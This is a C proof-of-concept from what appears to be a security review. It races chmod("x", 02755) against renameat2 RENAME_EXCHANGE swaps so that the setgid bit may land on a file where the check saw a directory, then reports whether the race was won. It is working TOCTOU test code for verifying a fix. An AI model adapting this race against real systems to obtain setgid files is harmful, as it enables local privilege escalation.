/* Review 88 F2's race, shared by sgid_race.c and setid_flood.c: in the
 * current directory, chmod("x", 02755) judged on a directory while another
 * thread swaps a file into its place (renameat2 RENAME_EXCHANGE of x and
 * y); the per-call check sees a directory, the kernel may give the file the
 * bit. Up to ROUNDS tries; prints "hit=0|1" and returns the hit, or -1 when
 * y could not be made. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/fs.h>
#include <pthread.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static volatile int racing = 1;

static void *swapper(void *u) {
    (void)u;
    while (racing) syscall(SYS_renameat2, AT_FDCWD, "x", AT_FDCWD, "y", RENAME_EXCHANGE);
    return NULL;
}

static int setgid_file(const char *p) {
    struct stat st;
    return stat(p, &st) == 0 && S_ISREG(st.st_mode) && (st.st_mode & S_ISGID);
}

static int race(int rounds) {
    mkdir("x", 0755);
    int fd = open("y", O_CREAT | O_WRONLY, 0755);
    if (fd < 0 || write(fd, "#!/bin/sh\nid\n", 13) != 13) return -1;
    close(fd);
    pthread_t t;
    pthread_create(&t, NULL, swapper, NULL);
    int hit = 0;
    for (int i = 0; i < rounds && !hit; i++) {
        chmod("x", 02755);
        hit = setgid_file("x") || setgid_file("y");
    }
    racing = 0;
    pthread_join(t, NULL);
    printf("hit=%d\n", hit);
    fflush(stdout);
    return hit;
}
